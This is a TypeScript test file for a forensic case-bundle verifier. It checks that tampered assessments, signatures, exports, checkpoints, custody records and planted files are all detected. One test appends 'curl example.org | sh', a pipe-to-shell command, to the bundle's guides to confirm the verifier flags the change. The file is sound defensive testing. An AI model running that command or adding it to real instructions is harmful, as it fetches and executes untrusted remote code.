import { beforeAll, describe, expect, it } from 'vitest';
import { utf8ToBytes, base64ToBytes } from '../../../shared/base/bytes.ts';
import { ok } from '../../../shared/base/result.ts';
import { computeAssessment, formatAssessmentFile } from '../../../shared/bundle/assessment-file.ts';
import { readContents, textOf } from '../../../shared/bundle/bundle-contents.ts';
import type { CheckName } from '../../../shared/bundle/check.ts';
import { checkAssessment, profilePath } from '../../../shared/bundle/checks/derived.ts';
import { rootsAt } from '../../../shared/bundle/checks/ledger.ts';
import { createSshsig } from '../../../shared/bundle/sshsig.ts';
import { canonicalJson } from '../../../shared/ledger/canonical-json.ts';
import { formatCheckpointNote, signCheckpoint } from '../../../shared/ledger/checkpoint.ts';
import { cosign, formatCosignatureFile } from '../../../shared/ledger/cosignature.ts';
import { createVerifierKey, parseVerifierKey } from '../../../shared/ledger/verifier-key.ts';
import { openCase } from '../../../services/cases/case-session.ts';
import { nodeCrypto } from '../../../services/node-crypto.ts';
import { createTestFolder } from '../../support/bundle-folder.ts';
import {
  changeFiles,
  failuresIn,
  linesAt,
  makeDemoRelease,
  releaseSize,
  readFiles,
  sealFiles,
  signAnew,
  signatureOver,
  snapshotOf,
  textAt,
  verifyFiles,
  type DemoRelease,
  type Files,
} from '../../support/demo-release.ts';
import { valueOf } from '../../support/results.ts';
import { createInsider, stranger, entries, infoPath, type Replacement } from '../../support/insider.ts';
import { overrideAll } from '../../support/overrides.ts';

const folder = createTestFolder();
let demo: DemoRelease;

beforeAll(async () => {
  demo = await makeDemoRelease(folder);
}, 120_000);

const { filesOf, insiders, verifySigned, expectCaught, replaced, original } = createInsider(() => demo);

describe('derived files and profiles', () => {
  const view = 'data/view.json';
  const assessment = 'data/assessment.json';

  it.each<readonly [string, string | RegExp, Replacement]>([
    ['another word in a line', '"mark":"demonstration"', '"mark":"none"'],
    ['another size', /"size":(\d+),"state"/u, (_, size) => `"size":${Number(size) + 1},"state"`],
    ['another version', /"v":1\}\n$/u, '"v":2}\n'],
    ['another digit in a date', /"day":"20(\d)\d/u, '"day":"20$18'],
    ['a member of its own', /^\{/u, '{"a":1,'],
    ['a space more', /^\{/u, '{ '],
  ])('fails at view where view.json has %s', (_, from, to) => {
    expectCaught(replaced('public', view, from, to), { view });
  });

  it('fails at view where a withheld value is filled in', () => {
    expectCaught(replaced('public', view, /\{"withheld":"[^"]+"\}/u, '"invented"'), { view });
  });

  it.each<readonly [string, string | RegExp, Replacement]>([
    ['another digit in a number', /"0\.(\d)/u, (_, digit) => `"0.${(Number(digit) + 1) % 10}`],
    ['another version', /"v":1\}\n$/u, '"v":2}\n'],
    ['a section more', '"sections":{', '"sections":{"gates":{"v":1},'],
    ['a space more', /^\{/u, '{ '],
    ['words of another yardstick', '"wording":"icd203"', '"wording":"phia"'],
    ['a word of the next band', /("words":\{"levels".*?"word":")[^"]+/su, (_, before) => `${before}almost certain`],
    ['a confirmation that nobody gave', /"confirmation":null/u, '"confirmation":{"line":1,"stands":true}'],
    ['a rule that is broken said to hold', '"status":"broken"', '"status":"holds"'],
    ['a finding made an information', '"severity":"W"', '"severity":"I"'],
    ['one place of a rule left out', /,\{"id":"ev-[^"]+","kind":"item"\}/u, ''],
    ['another lead', /"lead":"hy-(.)/u, (_, first) => `"lead":"hy-${first === '0' ? '1' : '0'}`],
  ])('fails at assessment where assessment.json has %s', (_, from, to) => {
    expectCaught(replaced('public', assessment, from, to), { assessment });
    expectCaught(replaced('full', assessment, from, to), { assessment });
  });

  it('fails at assessment where the numbers are said not to be recomputable, or a section is gone', () => {
    const section = { missing: ['1.grade'], status: 'not_recomputable', v: 1 };
    const none = `${canonicalJson({ sections: { scores: section, sensitivity: section }, v: 1 })}\n`;
    expectCaught(changeFiles(filesOf('full'), { [assessment]: none }), { assessment });
    expectCaught(replaced('full', assessment, /,"sensitivity":.*$/su, '},"v":1}\n'), { assessment });
    expectCaught(changeFiles(filesOf('full'), { [assessment]: null }), { assessment, bag: assessment });
    expectCaught(changeFiles(filesOf('full'), { [view]: null }), { view, bag: view });
  });

  it('fails at assessment where it hides an error of the rules of export, or who let it stand', () => {
    const open = textAt(filesOf('public'), assessment);
    const [review = ''] = /"REVIEW":\{"findings":\[[^\]]*"where":\[\]\}\],"status":"broken"\}/u.exec(open) ?? [];
    expect(review).toContain('"answer":"overridden"');
    for (const hidden of ['"REVIEW":{"findings":[],"status":"holds"}', review.replace('"overridden"', 'null')])
      expectCaught(changeFiles(filesOf('public'), { [assessment]: open.replace(review, hidden) }), { assessment });
  });

  it('fails at assessment where a release leaves with an error that its request does not name, whatever else agrees', () => {
    const contents = readContents(snapshotOf(filesOf('public')), nodeCrypto);
    const { tables, revealed, snapshot, edition } = contents;
    const request = tables.rows('request').find(({ kind }) => kind === 'release');
    if (request === undefined) throw new Error('the release was asked for');
    expect(checkAssessment(contents, nodeCrypto).status).toBe('ok');
    tables.put('request', { ...request, act: '{"kind":"release","overrides":[],"redactions":[]}' });
    const computed = valueOf(
      computeAssessment(
        {
          tables,
          lines: revealed.lines,
          edition: valueOf(edition),
          missing: [],
          profileText: (sha256) => textOf(snapshot, profilePath(sha256)),
        },
        nodeCrypto,
      ),
    );
    const agreeing = changeFiles(filesOf('public'), { [assessment]: formatAssessmentFile(computed) });
    expect(checkAssessment({ ...contents, snapshot: snapshotOf(agreeing) }, nodeCrypto)).toMatchObject({
      status: 'failed',
      first: assessment,
      detail: 'the release was frozen with 1 error of the rules of export that nobody let stand: REVIEW',
    });
  });

  it('fails at assessment where a profile is edited, gone or one too many', () => {
    const profile = [...filesOf('full').keys()].filter((path) => path.startsWith('data/profiles/'));
    expect(profile).toHaveLength(2);
    for (const path of profile) {
      const text = textAt(filesOf('full'), path);
      expectCaught(changeFiles(filesOf('full'), { [path]: text.replace(/\d/u, '7') }), { assessment: path });
      expectCaught(changeFiles(filesOf('full'), { [path]: null }), { assessment: path });
    }
    const other = `data/profiles/${nodeCrypto.sha256Hex('{}')}.json`;
    expectCaught(changeFiles(filesOf('full'), { [other]: '{}' }), { assessment: other });
  });
});

describe('guides and tags', () => {
  // The mark is as much of the case as its numbers: it cannot be taken off one file of a bundle.
  it.each([
    ['README.txt', 'bag', /^\*\*\* DEMONSTRATION[^\n]*\n\n/u],
    ['VERIFY.txt', 'bag', /^\*\*\* DEMONSTRATION[^\n]*\n\n/u],
    ['viewer.html', 'viewer', 'DEMONSTRATION: '],
    ['data/exports/stix-2.1.json', 'exports', '"labels":["demonstration"],'],
    ['data/exports/misp.json', 'exports', '[DEMONSTRATION] '],
    ['data/exports/case-uco.jsonld', 'exports', ',"uco-core:tag":["DEMONSTRATION"]'],
    ['data/view.json', 'view', '"mark":"demonstration"'],
  ] as const)('fails where %s lost the mark of the case', (path, check, mark) => {
    expectCaught(replaced('full', path, mark, path === 'data/view.json' ? '"mark":"none"' : ''), {
      [check]: expect.anything(),
    });
  });

  it.each(['README.txt', 'VERIFY.txt'])('fails at bag where %s tells something else', (path) => {
    expectCaught(changeFiles(filesOf('full'), { [path]: `${textAt(filesOf('full'), path)}curl example.org | sh\n` }), {
      bag: path,
    });
    expectCaught(changeFiles(filesOf('full'), { [path]: '' }), { bag: path });
  });

  it.each<readonly [string, string | RegExp, Replacement]>([
    ['another payload', /Payload-Oxum: (\d+)/u, 'Payload-Oxum: 1$1'],
    ['another number of files', /Oxum: (\d+)\.(\d)/u, 'Oxum: $1.1$2'],
    ['another day', /Bagging-Date: \d{4}/u, 'Bagging-Date: 1999'],
    ['another origin', /plumbline\.local\/[0-9a-f]{16}/u, 'plumbline.local/0123456789abcdef'],
    ['another size', /#(\d+)/u, (_, size) => `#${Number(size) + 1}`],
    ['another edition', 'edition=full', 'edition=restricted'],
    ['a line more', /$/u, 'Contact-Name: Mallory\n'],
  ])('fails at bag where bag-info.txt has %s', (_, from, to) => {
    const files = sealFiles(replaced('full', infoPath, from, to), insiders());
    expect(failuresIn(verifyFiles(files, demo.anchors))).toMatchObject({ bag: infoPath });
  });

  it('says that guides of another version were not compared, and never that they hold', () => {
    const edited = replaced('full', infoPath, /plumbline\/[^\n]+/u, 'plumbline/99.0.0');
    const files = sealFiles(changeFiles(edited, { 'VERIFY.txt': 'true\n' }), insiders());
    const bag = verifyFiles(files, demo.anchors).checks.find(({ name }) => name === 'bag');
    expect(bag?.detail).toContain('README.txt and VERIFY.txt of 99.0.0 were not compared');
  });

  it('fails at bag where bagit.txt is another', () => {
    expectCaught(replaced('full', 'bagit.txt', '1.0', '0.97'), { bag: 'bagit.txt' });
  });
});

describe('signatures', () => {
  const path = 'signatures/demo-reviewer.sshsig';
  const failuresWith = (changes: Readonly<Record<string, string | Uint8Array | null>>) =>
    failuresIn(verifyFiles(changeFiles(filesOf('full'), changes), demo.anchors));

  it('fails where a required one is missing, of another bundle, of another purpose or by another key', () => {
    expect(failuresWith({ [path]: null })).toEqual({ signature: path });
    expect(failuresWith({ [path]: filesOf('public').get(path) ?? null })).toEqual({ signature: path });
    expect(
      failuresWith({ [path]: signatureOver(filesOf('full'), demo.people.reviewer, 'plumbline-review-v1') }),
    ).toEqual({ signature: path });
    expect(failuresWith({ [path]: signatureOver(filesOf('full'), { signer: stranger }) })).toEqual({ signature: path });
    expect(failuresWith({ [path]: signatureOver(filesOf('full'), demo.people.analyst) })).toEqual({ signature: path });
  });

  it('fails where one is not armoured as ssh-keygen armours it', () => {
    const text = textAt(filesOf('full'), path);
    expect(failuresWith({ [path]: text.trimEnd() })).toEqual({ signature: path });
    expect(failuresWith({ [path]: text.replaceAll('\n', '\r\n') })).toEqual({ signature: path });
    expect(failuresWith({ [path]: `${text}\n` })).toEqual({ signature: path });
  });

  it('is not moved by sound signatures of others, which make no one an anchor', () => {
    const other = signatureOver(filesOf('full'), { signer: stranger });
    const verification = verifyFiles(
      changeFiles(filesOf('full'), { 'signatures/mallory.sshsig': other }),
      demo.anchors,
    );
    expect(verification.verdict).toBe('verified');
    const unsound = signatureOver(filesOf('public'), { signer: stranger });
    expect(failuresWith({ 'signatures/mallory.sshsig': unsound })).toEqual({ signature: 'signatures/mallory.sshsig' });
  });

  it('fails where a signature over the checkpoint is over another, or by another key than the one enrolled', () => {
    const file = 'signatures/checkpoint.demo-analyst.sshsig';
    const sign = (signer: typeof stranger, body: string) =>
      createSshsig({ signer, message: utf8ToBytes(body), namespace: 'plumbline-checkpoint-v1' }, nodeCrypto);
    const { body } = original('full');
    expect(failuresWith({ [file]: sign(demo.people.analyst.signer, body) })).toEqual({});
    expect(failuresWith({ [file]: sign(demo.people.analyst.signer, `${body}x`) })).toEqual({ signature: file });
    expect(failuresWith({ [file]: sign(stranger, body) })).toEqual({ signature: file });
  });

  it('fails where a later cosignature is unsound, under another name or a second one', () => {
    const { body } = original('full');
    const cosigFile = (principal: string, signed: string) => {
      const name = `plumbline.local/person/${principal}`;
      const key = createVerifierKey(name, 4, stranger.publicKey, nodeCrypto);
      return formatCosignatureFile({
        key,
        signature: cosign({ body: signed, name, timeSeconds: 1, signer: stranger }, nodeCrypto),
      });
    };
    expect(failuresWith({ 'signatures/mallory.cosig': cosigFile('mallory', body) })).toEqual({});
    expect(failuresWith({ 'signatures/mallory.cosig': cosigFile('mallory', `${body}x`) })).toEqual({
      witness: 'signatures/mallory.cosig',
    });
    expect(failuresWith({ 'signatures/other.cosig': cosigFile('mallory', body) })).toEqual({
      witness: 'signatures/other.cosig',
    });
    expect(failuresWith({ 'signatures/demo-witness.cosig': cosigFile('demo-witness', body) })).toEqual({
      witness: 'signatures/demo-witness.cosig',
    });
  });

  it('verifies nothing where the two insiders are not those whom the reader trusts', () => {
    const signed = signAnew(filesOf('full'), insiders());
    expect(verifyFiles(signed, { ...demo.anchors, signers: [] }).verdict).toBe('not anchored');
    const key = { type: 'ssh-ed25519', publicKey: stranger.publicKey } as const;
    const wrong = ['demo-analyst', 'demo-reviewer'].map((principal) => ({ principal, key }));
    expect(verifyFiles(signed, { ...demo.anchors, signers: wrong }).verdict).toBe('not anchored');
  });
});

describe('exports', () => {
  const paths = ['case-uco.jsonld', 'misp.json', 'stix-2.1.json'].map((name) => `data/exports/${name}`);
  const statusOf = (files: Files) => verifySigned(files).checks.find(({ name }) => name === 'exports');

  it.each(paths)('are made again, and fail where one has another byte or is gone: %s', (path) => {
    for (const edition of ['full', 'public'] as const) {
      expectCaught(
        replaced(edition, path, /[0-9](?=[^0-9]*$)/u, (digit) => (digit === '1' ? '2' : '1')),
        { exports: path },
      );
      expectCaught(changeFiles(filesOf(edition), { [path]: null }), { exports: path });
    }
  });

  it('of another edition fail, though every word in them is of the case', () => {
    const [path = ''] = paths;
    expectCaught(changeFiles(filesOf('public'), { [path]: filesOf('full').get(path) ?? '' }), { exports: path });
  });

  it('are named not checked where there are none, and where another version wrote them', () => {
    const none = changeFiles(filesOf('public'), Object.fromEntries(paths.map((path) => [path, null])));
    expect(statusOf(none)).toMatchObject({ status: 'not checked', detail: 'absent' });
    expect(verifySigned(none).verdict).toBe('verified');
    const later = replaced('public', infoPath, /plumbline\/[0-9.]+/u, 'plumbline/99.0.0');
    expect(statusOf(changeFiles(later, { 'data/exports/misp.json': '{}' }))).toMatchObject({
      status: 'not checked',
      detail: 'rendered by 99.0.0',
    });
  });
});

describe('files that the release did not have', () => {
  it.each<readonly [string, CheckName]>([
    ['keys/extra', 'bag'],
    ['keys/witness-2.vkey', 'witness'],
    ['keys/witness-2.pub.pem', 'witness'],
    ['data/exports/more.json', 'bag'],
    ['data/report/other.pdf', 'bag'],
    ['data/proofs/00000001.tlog-proof', 'merkle'],
    ['data/case.db', 'bag'],
    ['viewer.html', 'viewer'],
    ['viewer.htm', 'bag'],
    ['signatures/extra.txt', 'bag'],
    ['signatures/checkpoint.sshsig', 'bag'],
    ['timestamps/checkpoint.tsq', 'timestamps'],
    ['timestamps/checkpoint.tsr', 'timestamps'],
    ['timestamps/root.pem', 'timestamps'],
  ])('are caught though the insiders have signed for them: %s', (path, check) => {
    expectCaught(changeFiles(filesOf('full'), { [path]: 'planted' }), { [check]: path });
  });

  it('are caught where they pose as an earlier checkpoint', () => {
    const { origin } = original('full').checkpoint;
    const path = 'data/ledger/history/00000050.txt';
    const texts = linesAt(filesOf('full'), entries);
    const rootAt = (size: number) =>
      base64ToBytes(rootsAt(texts, [size], nodeCrypto).get(size) ?? '') ?? new Uint8Array();
    const noteOf = (size: number, root: Uint8Array, signer = demo.logSigner) =>
      formatCheckpointNote(signCheckpoint({ checkpoint: { origin, size, root }, signer }, nodeCrypto));
    const withNote = (text: string, name = path) => changeFiles(filesOf('full'), { [name]: text });
    expect(verifySigned(withNote(noteOf(50, rootAt(50)))).verdict).toBe('verified');
    expectCaught(withNote(noteOf(50, rootAt(49))), { merkle: path });
    expectCaught(withNote(noteOf(50, rootAt(50), stranger)), { 'log-signature': path });
    expectCaught(withNote(noteOf(49, rootAt(49))), { merkle: path });
    expectCaught(withNote('planted'), { merkle: path, 'log-signature': path });
    const last = releaseSize(demo) - 1;
    const own = `data/ledger/history/${String(last).padStart(8, '0')}.txt`;
    expectCaught(withNote(noteOf(last + 1, rootAt(last + 1)), own), { merkle: own });
  });
});

it('fails at custody where a case was released with a hash in custody that is not that of its item', async () => {
  const { call, by, reply, deps } = demo;
  const session = valueOf(openCase(reply.case, deps));
  // Of an artifact the rules of export would notice it, and refuse the release before any stranger sees it.
  const item = session.tables.rows('evidence').find(({ kind, sha256 }) => kind !== 'artifact' && sha256 !== null);
  const wrong = 'a'.repeat(64);
  const none = { authority: '', condition: '', from: '', place: '', purpose: '', role: '' };
  const hands = { ...none, seal: '', to: '', witness: '' };
  const forged = session.append(() =>
    ok({
      drafts: [
        {
          type: 'custody.event',
          fields: {
            actor: 'demo-analyst',
            at: deps.clock(),
            tlp: 'CLEAR',
            item: item?.key ?? '',
            event: 'accessed',
            hands,
            happened: null,
            hashes: { after: wrong, before: wrong, stored: wrong },
            transport: { carrier: '', tracking: '' },
            tool: { name: '', version: '' },
            corrects: null,
            note: '',
          },
        },
      ],
    }),
  );
  session.close();
  const { first } = valueOf(forged);
  // Whoever works on the case need not wait for an export to find it.
  const { checks } = await call('case.verify', { folder: reply.case });
  expect(checks.filter(({ status }) => status === 'failed')).toMatchObject([
    { name: 'custody', first: `line ${first}` },
  ]);
  const folderAndBy = (principal: string) => ({ folder: reply.case, ...by(principal) });
  const act = { kind: 'release' as const, overrides: await overrideAll(call, reply.case) };
  const { request } = await call('approval.request', { ...folderAndBy('demo-analyst'), act });
  await call('approval.give', { ...folderAndBy('demo-analyst'), request });
  await call('approval.give', { ...folderAndBy('demo-reviewer'), request });
  await call('release.freeze', folderAndBy('demo-analyst'));
  const out = `${folder}/custody.zip`;
  const signers = [by('demo-analyst'), by('demo-reviewer')];
  await call('release.export', { folder: reply.case, out, edition: 'full', signers });
  const { files } = await readFiles(out);
  expect(failuresIn(verifyFiles(files, demo.anchors))).toEqual({ custody: `line ${first}` });
  expect(parseVerifierKey(textAt(files, 'keys/log.vkey').trimEnd(), nodeCrypto).ok).toBe(true);
});
